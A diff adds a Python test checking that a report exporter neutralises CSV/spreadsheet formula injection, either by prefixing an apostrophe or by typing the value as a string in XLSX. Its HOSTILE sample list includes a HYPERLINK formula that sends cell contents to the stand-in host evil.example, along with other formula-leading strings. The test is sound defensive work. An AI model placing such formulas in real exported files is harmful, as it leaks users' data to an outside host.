@@ -267,3 +267,29 @@ def test_xlsx_types_of_every_kind(ctx):
         assert ws.cell(ws.max_row, 2).number_format == "#,##0.0##"
         wb.close()
         assert _csv_rows(to_csv(table))[-1] == ["01/09/2021", "2,5", "één"]
+
+
+HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A2,"Klik")', "+32 1", "-2+3", "@SUM(A1)", "\t=1"]
+
+
+def test_formula_like_text_is_never_a_formula(ctx):
+    """M4: CSV prefixes text that could start a formula with "'"; XLSX types it as a string."""
+    table = ReportTable(
+        title="=titel",
+        as_of=P,
+        source=SOURCE,
+        columns=[Column("Naam"), Column("n", COUNT), Column("Verschil", DECIMAL)],
+        rows=[[name, -3, Decimal("-1.5")] for name in HOSTILE],
+        notes=["@notitie"],
+    )
+    with __import__("flask").current_app.test_request_context():
+        csv_rows = _csv_rows(to_csv(table))
+        assert csv_rows[0] == ["'=titel"] and csv_rows[3] == ["'@notitie"]
+        assert csv_rows[-len(HOSTILE) :] == [["'" + name, "-3", "-1,5"] for name in HOSTILE]
+        wb, ws = _xlsx(to_xlsx(table))
+        cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
+        assert not [c.coordinate for c in cells if c.data_type == "f"]
+        assert ws["A1"].value == "=titel"
+        got = [[c.value for c in row] for row in ws.iter_rows(min_row=ws.max_row - 4)]
+        assert got == [[name, -3, -1.5] for name in HOSTILE]
+        wb.close()
